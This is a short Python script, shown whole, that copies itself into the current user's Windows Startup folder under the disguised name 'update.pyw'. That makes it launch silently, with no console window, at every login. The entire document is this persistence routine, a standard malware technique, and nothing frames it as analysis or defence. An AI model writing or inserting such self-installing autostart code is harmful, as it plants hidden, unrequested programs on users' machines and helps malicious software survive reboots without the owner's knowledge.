import os, shutil, sys
target = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "update.pyw")
shutil.copy(__file__, target)
